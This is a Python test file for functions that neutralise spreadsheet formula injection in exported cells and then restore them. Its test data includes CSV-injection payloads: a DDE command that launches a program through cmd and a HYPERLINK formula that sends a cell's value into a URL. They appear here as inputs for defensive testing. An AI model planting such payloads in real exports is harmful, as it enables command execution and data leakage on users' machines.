"""Cells that a spreadsheet would run are made harmless, and come back as they were."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kith.kernel.intake.writers import guard, unguard


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://example.com?x="&A1)',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "+A1",
        "-(1)",
        "+1;2",
        "-1\n",
    ],
)
def test_a_cell_that_could_be_a_formula_is_kept_text(text):
    assert guard(text) == "'" + text
    assert unguard(guard(text)) == text


@pytest.mark.parametrize(
    "text",
    ["-12.50", "+420 601 123 456", "+1 (905) 555-1234", "-5", "Ada", "a=b", "", "'s-Hertogenbosch", "O'Hara", " =1"],
)
def test_numbers_phones_and_plain_words_are_left_alone(text):
    assert guard(text) == text


def test_a_text_that_already_looks_guarded_is_not_taken_for_one():
    assert guard("'=1") == "''=1"
    assert unguard("'=1") == "=1"
    assert unguard("'+420 601 123 456") == "'+420 601 123 456"


@given(st.text(alphabet="'=+-@\t\r\n1a ＝", max_size=6))
def test_any_text_comes_back_and_nothing_dangerous_is_left(text):
    safe = guard(text)
    assert unguard(safe) == text
    assert safe[:1] not in tuple("=@\t\r\n＝") or not safe
